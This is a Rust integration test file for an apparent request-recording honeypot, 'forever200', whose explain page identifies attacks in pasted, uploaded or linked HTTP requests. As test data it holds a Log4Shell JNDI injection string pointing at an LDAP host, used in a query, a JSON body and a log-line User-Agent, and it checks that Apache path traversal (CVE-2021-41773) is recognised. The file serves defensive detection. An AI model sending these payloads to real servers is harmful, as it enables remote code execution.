//! Any request can be explained: through haproxy, by a link, a form, or as the body of a POST. None
//! of it is recorded.

use anyhow::{Context, ensure};
use forever200_testkit::client::exchange;
use forever200_testkit::{Response, Stack};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const LOG4SHELL: &[u8] = b"GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: x\r\n\r\n";

async fn post(
    stack: &Stack,
    content_type: &str,
    more: &str,
    body: &[u8],
) -> anyhow::Result<Response> {
    let head = format!(
        "POST /home/explain HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\
         Content-Type: {content_type}\r\n{more}Content-Length: {}\r\n\r\n",
        body.len()
    );
    let (mut reply, _) = exchange(stack.front(), &[head.as_bytes(), body].concat()).await?;
    Response::split_off(&mut reply, "POST").context("no whole response")
}

fn form(parts: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, more, value) in parts {
        let head = format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"{more}\r\n\r\n");
        body.extend([head.as_bytes(), value, b"\r\n"].concat());
    }
    body.extend(b"--x--\r\n");
    body
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_given_is_explained_and_not_recorded() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let multipart = "multipart/form-data; boundary=x";
    let pasted = form(&[("request", "", LOG4SHELL), ("as", "", b"auto")]);
    let chosen = form(&[
        ("request", "", b""),
        ("file", "; filename=\"x\"", LOG4SHELL),
    ]);
    let curls = "application/x-www-form-urlencoded";
    for (content_type, body) in [
        (multipart, &pasted[..]),
        (multipart, &chosen),
        (curls, LOG4SHELL),
        ("application/octet-stream", LOG4SHELL),
    ] {
        let page = post(&stack, content_type, "", body).await?;
        ensure!(page.status == 200, "{content_type}: {}", page.status);
        ensure!(page.text().contains("Log4Shell"), "{}", page.text());
    }
    let list = forever200_testkit::get_json(stack.front(), "/home/api/requests").await?;
    ensure!(list["total"] == 0, "{list}");
    Ok(())
}

/// haproxy looks for folded lines, which only a head can have.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_may_have_lines_that_begin_with_a_space_or_a_tab() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let json = b"{\n  \"x\": \"${jndi:ldap://192.0.2.1/a}\",\n\t\"y\": 1\n}\n";
    let file = form(&[("file", "; filename=\"x\"", json)]);
    let pasted = form(&[("request", "", json), ("as", "", b"auto")]);
    let multipart = "multipart/form-data; boundary=x";
    let octets = "application/octet-stream";
    let from_its_first_byte = [&b"\t"[..], LOG4SHELL].concat();
    // Head and body come in one segment.
    for (content_type, body) in [
        (octets, &json[..]),
        (octets, &from_its_first_byte),
        ("application/x-www-form-urlencoded", json),
        (multipart, &file),
        (multipart, &pasted),
    ] {
        let page = post(&stack, content_type, "", body).await?;
        ensure!(page.status == 200, "{content_type}: {}", page.status);
        let is_the_page = page.header("content-security-policy").is_some();
        ensure!(is_the_page, "{content_type}: {}", body.escape_ascii());
    }
    // With each way to end the lines of a head.
    for ends in ["\r\n\r\n", "\n\n", "\n\r\n", "\r\n\n"] {
        let head = "POST /home/explain HTTP/1.1\nHost: x\nConnection: close\nContent-Length: ";
        let head = format!("{head}{}{ends}", json.len());
        let (mut reply, _) = exchange(stack.front(), &[head.as_bytes(), json].concat()).await?;
        let page = Response::split_off(&mut reply, "POST").context("no whole response")?;
        let is_the_page = page.header("content-security-policy").is_some();
        ensure!(is_the_page, "{}", ends.escape_default());
    }
    let list = forever200_testkit::get_json(stack.front(), "/home/api/requests").await?;
    ensure!(list["total"] == 0, "{list}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_line_of_an_access_log_is_explained_as_the_request_it_tells_of() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let multipart = "multipart/form-data; boundary=x";
    let line = "192.0.2.1 - - [28/Nov/2026:01:02:03 +0000] \"GET /?a=1 HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://192.0.2.1/a}\"";
    for writing in ["auto", "log"] {
        let given = form(&[
            ("request", "", line.as_bytes()),
            ("as", "", writing.as_bytes()),
        ]);
        let page = post(&stack, multipart, "", &given).await?;
        for part in [
            "CVE-2021-44228",
            "as a line of an access log",
            ">User-Agent<",
        ] {
            ensure!(page.text().contains(part), "{part}: {}", page.text());
        }
    }
    let given = form(&[("request", "", b"GET / HTTP/1.1"), ("as", "", b"log")]);
    let page = post(&stack, multipart, "", &given).await?;
    ensure!(
        page.status == 400
            && page
                .text()
                .contains("This is not one line of an access log")
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_explained_is_said_on_the_form() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let multipart = "multipart/form-data; boundary=x";
    let wrong = form(&[("request", "", b"<b>\"q"), ("as", "", b"hex")]);
    let page = post(&stack, multipart, "", &wrong).await?;
    ensure!(page.status == 400, "{}", page.status);
    for part in ["This is not hex", "&lt;b&gt;", "selected>hex"] {
        ensure!(page.text().contains(part), "{part}: {}", page.text());
    }
    let empty = post(&stack, multipart, "", &form(&[])).await?;
    ensure!(empty.status == 400 && empty.text().contains("Nothing was given"));
    let octets = "application/octet-stream";
    for length in [65_537, 400_000, 2_000_000] {
        let long = post(&stack, octets, "", &vec![b'a'; length]).await?;
        ensure!(long.status == 413, "{length}: {}", long.status);
        ensure!(long.text().contains("too long"), "{}", long.text());
    }
    ensure!(post(&stack, octets, "", &vec![b'a'; 65_536]).await?.status == 200);
    for query in ["b64=!", "b64=a", "x=y"] {
        let page = stack.get(&format!("/home/explain?{query}")).await?;
        ensure!(page.status == 400, "{query}: {}", page.status);
    }
    ensure!(stack.get("/home/explain").await?.status == 200);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_example_stands_in_the_form_and_is_explained() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let empty = stack.get("/home/explain").await?.text();
    ensure!(
        empty.contains("href=\"/home/explain?example=on\""),
        "{empty}"
    );
    let page = stack.get("/home/explain?example=on").await?.text();
    let (_, rest) = page
        .split_once("spellcheck=\"false\">\n")
        .context("no input")?;
    let (example, _) = rest.split_once("</textarea>").context("no end")?;
    let example = example.replace("&#x2f;", "/");
    let given = form(&[("request", "", example.as_bytes()), ("as", "", b"auto")]);
    let page = post(&stack, "multipart/form-data; boundary=x", "", &given).await?;
    ensure!(page.status == 200, "{}", page.status);
    for part in ["CVE-2021-41773", "Reading a system file", "admin:admin"] {
        ensure!(page.text().contains(part), "{part}: {}", page.text());
    }
    ensure!(stack.get("/home/explain?example=maybe").await?.status == 400);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn no_other_site_posts_here() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let from = |site: &str| format!("Sec-Fetch-Site: {site}\r\n");
    for (site, status) in [
        ("cross-site", 403),
        ("same-site", 403),
        ("same-origin", 200),
    ] {
        let page = post(&stack, "text/plain", &from(site), LOG4SHELL).await?;
        ensure!(page.status == status, "{site}: {}", page.status);
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_without_an_end_is_given_up() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let head = b"POST /home/explain HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nGET /";
    let mut stream = TcpStream::connect(stack.front()).await?;
    stream.write_all(head).await?;
    let mut reply = Vec::new();
    // haproxy keeps the connection open, because the rest may still come.
    let page = loop {
        ensure!(stream.read_buf(&mut reply).await? > 0, "closed");
        if let Some(page) = Response::split_off(&mut reply, "POST") {
            break page;
        }
    };
    ensure!(page.status == 408, "{}", page.status);
    ensure!(stack.get("/home/health").await?.status == 200);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_outlives_the_ring_in_a_link_and_in_a_file() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    stack.send(LOG4SHELL).await?;
    stack.until_recorded(1).await?;
    let page = stack.get("/home/requests/1").await?.text();
    let (_, link) = page
        .split_once("href=\"/home/explain?b64=")
        .context("no link")?;
    let (link, _) = link.split_once('"').context("no end")?;
    let linked = stack.get(&format!("/home/explain?b64={link}")).await?;
    ensure!(linked.status == 200 && linked.text().contains("Log4Shell"));
    let file = stack.get("/home/requests/1/html").await?;
    ensure!(
        file.header("content-disposition") == Some("attachment; filename=\"forever200-1.html\"")
    );
    ensure!(file.text().contains("Log4Shell"), "{}", file.text());
    for part in ["<script", "\"/home", "<link"] {
        ensure!(!file.text().contains(part), "{part}: {}", file.text());
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_longest_link_comes_through_with_what_a_browser_adds() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    for (length, is_linked) in [(5250, true), (5251, false)] {
        let number = if is_linked { 1 } else { 2 };
        stack.send(&vec![0xff; length]).await?;
        stack.until_recorded(number).await?;
        let page = stack.get(&format!("/home/requests/{number}")).await?;
        let has_link = page.text().contains("href=\"/home/explain?b64=");
        ensure!(has_link == is_linked, "{length}");
    }
    let link = "_".repeat(7000);
    let headers = format!("User-Agent: {}\r\n", "x".repeat(900));
    let request = format!(
        "GET /home/explain?b64={link} HTTP/1.1\r\nHost: localhost\r\n{headers}Connection: close\r\n\r\n"
    );
    let (mut reply, _) = exchange(stack.front(), request.as_bytes()).await?;
    let page = Response::split_off(&mut reply, "GET").context("no whole response")?;
    ensure!(page.status == 200 && page.text().contains("5250 bytes"));
    Ok(())
}
